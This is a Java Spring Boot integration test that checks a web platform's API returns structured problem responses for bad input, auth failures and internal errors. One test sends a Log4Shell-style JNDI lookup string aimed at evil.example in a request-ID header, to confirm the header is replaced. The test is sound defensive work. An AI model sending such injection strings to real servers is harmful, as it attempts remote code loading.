package org.cinemates.platform.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.cinemates.platform.test.ProblemAssertions.assertProblem;

import java.util.Map;
import org.cinemates.platform.PlatformTestApplication;
import org.cinemates.platform.test.ApiClient;
import org.cinemates.platform.test.ApiResponse;
import org.cinemates.platform.test.TestTokens;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;

/** Whatever a client sends, a platform service answers with a problem, never a stack trace. */
@SpringBootTest(
        classes = PlatformTestApplication.class,
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "spring.autoconfigure.exclude=org.springframework.boot.jdbc.autoconfigure.DataSourceAutoConfiguration",
            "cinemates.web.max-body-size=2KB",
            // Nothing listens on port 1: the issuer's keys are out of reach.
            "cinemates.security.jwt.jwks-uri=http://127.0.0.1:1/api/auth/jwks.json",
            "cinemates.security.jwt.jwks-timeout=500ms"
        })
class ProblemDetailsIT {

    @LocalServerPort
    int port;

    private ApiClient client() {
        return new ApiClient("http://127.0.0.1:" + port);
    }

    @Test
    void validBodiesPass() {
        ApiResponse ok = client().post("/public/notes")
                .json(Map.of("text", "hi", "stars", 3, "tags", new String[] {"a"}))
                .send();
        assertThat(ok.status()).isEqualTo(200);
    }

    @Test
    void constraintViolationsListEveryField() {
        JsonNode problem = assertProblem(
                client().post("/public/notes")
                        .json(Map.of("text", "", "stars", 9))
                        .send(),
                400,
                "validation");
        assertThat(problem.path("errors").findValuesAsString("field")).containsExactlyInAnyOrder("text", "stars");
        assertThat(problem.path("instance").asString()).isEqualTo("/public/notes");
        assertThat(problem.path("traceId").asString()).isNotBlank();
    }

    @Test
    void wrongTypesNameTheField() {
        for (String body : new String[] {
            "{\"text\":\"hi\",\"stars\":\"three\"}",
            "{\"text\":\"hi\",\"stars\":\"3\"}",
            "{\"text\":42,\"stars\":3}",
            "{\"text\":\"hi\",\"stars\":3.5}",
            "{\"text\":\"hi\",\"stars\":3,\"tags\":\"a\"}",
            "{\"text\":{\"a\":1},\"stars\":3}"
        }) {
            JsonNode problem =
                    assertProblem(client().post("/public/notes").rawJson(body).send(), 400, "malformed-body");
            assertThat(problem.path("detail").asString()).as(body).startsWith("Field '");
        }
        assertProblem(
                client().post("/public/notes")
                        .rawJson("{\"text\":\"hi\",\"stars\":null}")
                        .send(),
                400);
    }

    @Test
    void brokenJsonIsABadRequest() {
        for (String body : new String[] {"{", "not json", "{\"text\":\"hi\",}", "[1,2", "\"\\uZZZZ\""}) {
            assertProblem(client().post("/public/notes").rawJson(body).send(), 400, "malformed-body");
        }
        assertProblem(client().post("/public/notes").rawJson("").send(), 400, "malformed-body");
    }

    @Test
    void parametersAreValidated() {
        assertThat(client().get("/public/search?q=abc").send().status()).isEqualTo(200);
        assertProblem(client().get("/public/search").send(), 400);
        assertProblem(client().get("/public/search?q=abcdefgh").send(), 400, "validation");
        assertProblem(client().get("/public/search?q=a&size=101").send(), 400, "validation");
        assertProblem(client().get("/public/search?q=%FF").send(), 400, "validation");
        JsonNode problem =
                assertProblem(client().get("/public/search?q=a&size=lots").send(), 400, "validation");
        assertThat(problem.path("errors").get(0).path("field").asString()).isEqualTo("size");
    }

    @Test
    void protocolMistakesGetTheirOwnStatus() {
        assertProblem(client().get("/public/nowhere").send(), 404, "not-found");
        assertProblem(client().put("/public/notes").json(Map.of()).send(), 405, "method-not-allowed");
        assertProblem(
                client().post("/public/notes").body("text=hi", "text/plain").send(), 415, "unsupported-media-type");
    }

    @Test
    void oversizedBodiesAre413WhetherAnnouncedOrNot() {
        String big = "{\"text\":\"" + "x".repeat(4096) + "\",\"stars\":1}";
        assertProblem(client().post("/public/notes").rawJson(big).send(), 413, "payload-too-large");
    }

    @Test
    void unexpectedErrorsSayNothingOfOurInternals() {
        ApiResponse response = client().get("/public/boom").send();
        JsonNode problem = assertProblem(response, 500, "internal");
        assertThat(response.body()).doesNotContain("secret internal detail", "IllegalStateException", "at org.");
        assertThat(problem.path("traceId").asString()).isNotBlank();
    }

    @Test
    void racesOnUniqueDataAreConflicts() {
        ApiResponse response = client().get("/public/conflict").send();
        assertProblem(response, 409, "conflict");
        assertThat(response.body()).doesNotContain("duplicate key");
    }

    @Test
    void requestIdsAreKeptWhenSafeAndMadeOtherwise() {
        assertThat(client().get("/public/search?q=a")
                        .header("X-Request-Id", "abc-123")
                        .send()
                        .header("x-request-id"))
                .contains("abc-123");
        String made = client().get("/public/search?q=a")
                .header("X-Request-Id", "${jndi:ldap://evil.example/x} spaces")
                .send()
                .header("x-request-id")
                .orElseThrow();
        assertThat(made).matches("[0-9a-f]{32}");
    }

    @Test
    void traceContextIsTakenFromTheCaller() {
        String traceId = "4bf92f3577b34da6a3ce929d0e0e4736";
        ApiResponse response = client().get("/public/nowhere")
                .header("traceparent", "00-" + traceId + "-00f067aa0ba902b7-01")
                .send();
        assertThat(response.json().path("traceId").asString()).isEqualTo(traceId);
    }

    @Test
    void protectedEndpointsNeedAToken() {
        assertProblem(client().get("/private/me").send(), 401, "unauthenticated");
        assertProblem(client().get("/private/me").bearer("garbage").send(), 401, "invalid-token");
        assertProblem(client().get("/internal/anything").send(), 401);
    }

    @Test
    void tokensThatCannotBeCheckedForLackOfKeysAre503NotUnauthorized() {
        String wellFormed = TestTokens.sign(
                TestTokens.claims(7, "someone", java.util.List.of("USER")), TestTokens.newKey("k"), "at+jwt");
        ApiResponse response = client().get("/private/me").bearer(wellFormed).send();
        assertProblem(response, 503, "dependency-unavailable");
        assertThat(response.header("retry-after")).isPresent();
        assertProblem(
                client().get("/private/me")
                        .cookies("access_token=" + wellFormed)
                        .send(),
                503);
        assertThat(client().get("/public/search?q=a").send().status())
                .as("anonymous requests do not need the keys")
                .isEqualTo(200);
    }

    @Test
    void firewallRejectionsAreProblems() {
        assertProblem(client().get("/public/search;jsessionid=1?q=a").send(), 400);
    }

    @Test
    void healthIsOpen() {
        assertThat(client().get("/actuator/health/readiness").send().status()).isEqualTo(200);
        assertThat(client().get("/actuator/health/liveness").send().status()).isEqualTo(200);
        assertThat(client().get("/actuator/prometheus").send().status()).isEqualTo(200);
    }
}
